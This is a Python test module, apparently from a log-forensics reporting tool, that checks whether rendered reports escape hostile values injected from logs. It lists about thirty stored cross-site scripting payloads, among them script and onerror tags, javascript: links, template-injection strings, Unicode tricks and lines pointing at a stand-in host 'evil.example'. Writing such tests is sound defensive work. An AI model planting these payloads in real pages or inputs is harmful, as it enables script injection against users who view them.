"""What an intruder writes into logs to run in the reader's browser: stored cross-site scripting, as sentences."""

from __future__ import annotations

from dataclasses import replace

from counterfoil.model.dossier import Dossier, Reached, Relative
from counterfoil.model.hunt import HuntReport, RejectCount, VerdictCount
from counterfoil.model.verdict import Verdict

from .sample import DOSSIER, REPORT, coverage, file, finding, mailbox, record, trail, unread

# every attack calls alert(), which a browser test notices; markers show where the value came to stand
ATTACKS = {
    "a script": "<script>alert(1)</script>",
    "a script in capitals and after a null": "<\x00SCRIPT>alert(1)</SCRIPT>",
    "an image that fails to load": "<img src=x onerror=alert(1)>",
    "an svg that loads": "<svg/onload=alert(1)>",
    "a quote ends the attribute": "\" autofocus onfocus=alert(1) x=\"",
    "an apostrophe ends the attribute": "' onmouseover='alert(1)' x='",
    "a backtick ends the attribute": "` onmouseover=alert(1) x=`",
    "a link runs a script": "javascript:alert(1)",
    "a link runs a script past a filter": "java\tscript:alert(1)//",
    "data as a document": "data:text/html,<script>alert(1)</script>",
    "a frame": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "an object": "<object data=javascript:alert(1)></object>",
    "a base that moves all links": "<base href=//evil.example/>",
    "a refresh": "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "a style that loads": "<style>@import '//evil.example/x.css'</style>",
    "a style attribute": "<p style='background:url(//evil.example/x)'>x",
    "a form": "<form action=//evil.example><input name=q></form>",
    "the title ends early": "</title><script>alert(1)</script>",
    "the style sheet ends early": "</style><script>alert(1)</script>",
    "the code ends early": "</code></pre></details><script>alert(1)</script>",
    "a comment opens": "<!--><script>alert(1)</script>",
    "a comment hides the rest": "<!-- ",
    "characters as entities": "&lt;script&gt;alert(1)&lt;/script&gt;&#x3c;script>",
    "a template of ours": "{{ 7*7 }}{% raw %}{{ page.report }}",
    "a template of others": "${alert(1)}#{alert(1)}<%= alert(1) %>",
    "an overlong form of a bracket": "\u00c0\u00bcscript\u00c0\u00be",
    "full-width brackets": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "text that runs backwards": "\u202egnp.exe\u2066<b>x</b>\u2069",
    "line separators": "a\u2028b\u2029<b>c</b>",
    "control characters": "a\x1b[2J\x07\x9b<b>c</b>",
    "half a surrogate pair": "\ud800<b>c</b>\udfff",
    "a megabyte": "<b>" * 400_000,
    "marks that pile up": "x" + "\u0336" * 3000,
    "a math element that mutates": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
}


def dossier(value: str) -> Dossier:
    """Return a dossier with the value wherever a log or a path can bring it in."""
    relative = Relative(None, "", value, Verdict.FORGED, value)
    told = record(
        source=value, kind=value, operation=value, outcome=value, issuer=value, subject=value, client_id=value,
        ip=value, user_agent=value, object_name=value, access_mode=value, path=value,
    )
    shown = trail(
        finding="f-1", reason=value, token_id=value, subject=value, issuer=value, key_id=value, client_id=value,
        resource=value, ip=value, key_uses=(told,), issued=(told,), exchanged=(told,), accepted=(told,),
        reached=(Reached(value, value, 3, 3),), parents=(relative,), children=(relative,),
    )
    box = mailbox(mailbox=value, mailbox_id=value, folders=(value,))
    return replace(
        DOSSIER,
        trails=(shown,),
        reach=(replace(DOSSIER.reach[0], kind=value),),
        logs=(replace(DOSSIER.logs[0], source=value, kind=value),),
        judged=tuple(replace(day, source=value) for day in DOSSIER.judged),
        mail=(replace(DOSSIER.mail[0], mailboxes=(box,)),),
        asked=(("--federated", value),),
    )


def hostile(value: str) -> HuntReport:
    """Return a report with the value wherever a log or a path can bring it in."""
    return replace(
        REPORT,
        version=value,
        case=value,
        inputs=(file(value, value, 5), replace(file(value, "b", 5), truncated=value), unread(value, value, value)),
        rejects=(RejectCount(value, value, 3, 1),),
        legs=((value, 5),),
        coverage=(
            replace(coverage("interactive", "refused", 5, value), issuer=value, kind=value, source=value),
            replace(coverage("interactive", "accepted", 5), issuer=value),
        ),
        verdicts=(VerdictCount(Verdict.FORGED, value, 5, 5), VerdictCount(Verdict.UNCOVERED, value, 5, 5)),
        findings=(
            finding(
                title=value, severity=value, confidence=value, subjects=(value,) * 12, ips=(value,), clients=(value,),
                keys=(value,), next_step=value, rule=value, detail=value, evidence=(value,), objects=(value,),
                attack=(value,),
            ),
        ),
        unnamed_domains=(value,),
        dossier=dossier(value),
    )
